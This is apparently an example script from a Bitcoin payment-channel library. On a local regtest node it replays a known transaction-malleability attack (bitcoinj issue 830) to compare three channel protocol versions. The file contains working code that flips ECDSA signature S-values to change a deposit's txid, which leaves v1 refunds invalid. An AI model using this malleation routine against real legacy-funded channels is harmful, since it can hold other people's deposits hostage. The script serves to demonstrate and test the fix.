"""bitcoinj issue 830 played on regtest: a third party malleates a channel deposit and breaks v1's refund.

    python examples/v1_malleability.py [--engine auto|embedded|bitcoind]

A deposit funded from legacy P2PKH inputs carries its signatures in scriptSigs, which the txid
covers. Anyone relaying it can replace a signature's S by N - S: the signature stays valid by
consensus (low S is only relay policy), the txid changes. The mutant is mined directly
(``generateblock`` with the raw transaction: consensus checks only), the original is gone.

- **v1**: the refund the server signed spends the *old* txid: worthless. The deposit is now held
  hostage by a 2-of-2 the client cannot spend alone.
- **v2**: the client's refund needs only its own signature: it re-signs it for the mutated txid and
  takes its coins back after the expiry.
- **v3**: the deposit spends segwit inputs only; the same mutation of a witness signature leaves
  the txid unchanged (only the wtxid moves), so every signed transaction stays valid.

Every verdict comes from the node.
"""
from __future__ import annotations

import argparse
from dataclasses import replace

from bitcoin.core import CMutableTransaction, CTransaction, CTxInWitness, CTxWitness, b2lx
from bitcoin.core.script import CScript, CScriptWitness

from btcmicro.channels.bitcoinj import (
    ClientConfig,
    InProcessTransport,
    PaymentChannelClient,
    PaymentChannelServer,
    ServerConfig,
    SQLiteClientStore,
    SQLiteServerStore,
)
from btcmicro.core.errors import NodeError
from btcmicro.core.keys import SECP256K1_ORDER
from btcmicro.node.chain import RPCChain
from btcmicro.node.launcher import start_node
from btcmicro.wallet import Funder, Wallet

DEPOSIT = 300_000
WINDOW = 3_600  # 6 blocks


def _der_int(n: int) -> bytes:
    b = n.to_bytes((n.bit_length() + 8) // 8, "big")  # a leading zero when the top bit is set
    return b"\x02" + bytes([len(b)]) + b


def flip_s(sig: bytes) -> bytes:
    """The same ECDSA signature with S replaced by N - S (DER re-encoded, hashtype byte kept)."""
    der, hashtype = sig[:-1], sig[-1:]
    rlen = der[3]
    r = int.from_bytes(der[4:4 + rlen], "big")
    slen = der[5 + rlen]
    s = int.from_bytes(der[6 + rlen:6 + rlen + slen], "big")
    body = _der_int(r) + _der_int(SECP256K1_ORDER - s)
    return b"\x30" + bytes([len(body)]) + body + hashtype


def malleate(raw: bytes) -> CTransaction:
    """What a relaying third party can do without any key: flip S in every input's signature
    (in the scriptSig of a P2PKH input, in the witness of a P2WPKH one)."""
    tx = CMutableTransaction.from_tx(CTransaction.deserialize(raw))
    witnesses = []
    for i, txin in enumerate(tx.vin):
        stack = list(tx.wit.vtxinwit[i].scriptWitness.stack) if i < len(tx.wit.vtxinwit) else []
        if len(txin.scriptSig):
            sig, pubkey = list(CScript(txin.scriptSig))
            txin.scriptSig = CScript([flip_s(sig), pubkey])
        elif stack:
            stack = [flip_s(stack[0]), *stack[1:]]
        witnesses.append(CTxInWitness(CScriptWitness(stack)))
    tx.wit = CTxWitness(witnesses)
    return CTransaction.from_tx(tx)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--engine", default="auto")
    args = parser.parse_args()
    with start_node(args.engine) as node:
        rpc, chain = node.rpc, RPCChain(node.rpc)
        bank = Wallet(rpc)
        bank.ensure_balance(3 * DEPOSIT + 1_000_000)
        legacy = Funder(rpc)  # the client's coins for v1 and v2: legacy P2PKH outputs
        bank.send_many([(legacy.address("p2pkh"), DEPOSIT + 50_000)] * 2)
        segwit = Funder(rpc)  # v3 funds from native segwit coins only
        bank.send_many([(segwit.address(), DEPOSIT + 50_000)])
        bank.confirm(1)
        attacker = Funder(rpc).address()
        server = PaymentChannelServer(chain, SQLiteServerStore(":memory:"),
                                      config=ServerConfig(expiry_by_height=True, min_time_window_secs=600))

        def open_channel(version: int, wallet: Funder) -> PaymentChannelClient:
            client = PaymentChannelClient(InProcessTransport(server), chain, SQLiteClientStore(":memory:"), wallet,
                                          config=ClientConfig(version=version, time_window_secs=WINDOW))
            client.open(DEPOSIT)
            client.pay(10_000)
            return client

        clients = {}
        mutants = {}
        for version, wallet in ((1, legacy), (2, legacy), (3, segwit)):
            client = open_channel(version, wallet)
            ch = client.channel
            mutant = malleate(ch.deposit_hex)
            mutants[version] = b2lx(mutant.GetTxid())
            clients[version] = client
            same = "SAME txid" if mutants[version] == ch.deposit_txid else "new txid"
            print(f"v{version}: deposit {ch.deposit_txid} -> mutant {mutants[version]} ({same}; "
                  f"wtxid {b2lx(mutant.GetHash())[:16]}…)")
            rpc.generateblock(attacker, [mutant.serialize().hex()])  # the mutant is mined, the original dropped
            mined = rpc.getrawtransaction(mutants[version], True)
            if same == "SAME txid":
                fate = "is the same transaction: every signed payment and refund still spends it"
            elif chain.get_tx(ch.deposit_txid) is None:
                fate = "is gone (its coins are spent by the mutant)"
            else:
                fate = "is STILL KNOWN (unexpected)"
            print(f"v{version}: mutant mined ({mined['confirmations']} confirmation); the original {fate}")

        expiry = max(c.channel.expiry for c in clients.values())
        bank.mine_to_self(max(0, expiry - chain.height()))
        print(f"height {chain.height()}: every refund is past its expiry")

        try:
            clients[1].refund()
            print("v1: the server-signed refund was ACCEPTED (unexpected)")
        except NodeError as e:
            print(f"v1: the server-signed refund is refused ({e.message}): it spends the old txid; "
                  f"{DEPOSIT:,} sats are hostage to the server")

        ch2 = clients[2].channel
        contract = replace(ch2.contract, deposit_txid=mutants[2])
        key = clients[2].store.key(ch2.client_key)
        refund = contract.complete_refund(key, contract.refund_tx(ClientConfig().feerate))
        txid = rpc.sendrawtransaction(refund.serialize().hex())
        print(f"v2: the client re-signed its own refund for the mutant: accepted {txid}")

        settlement = clients[3].close()
        bank.confirm(1)
        close = rpc.getrawtransaction(b2lx(settlement.GetTxid()), True)
        print(f"v3: the channel is untouched: close {b2lx(settlement.GetTxid())} mined "
              f"({close['confirmations']} confirmation), spending {close['vin'][0]['txid']}")
        refund_tx = rpc.getrawtransaction(txid, True)
        print(f"v2: refund confirmed ({refund_tx['confirmations']} confirmation)")


if __name__ == "__main__":
    main()
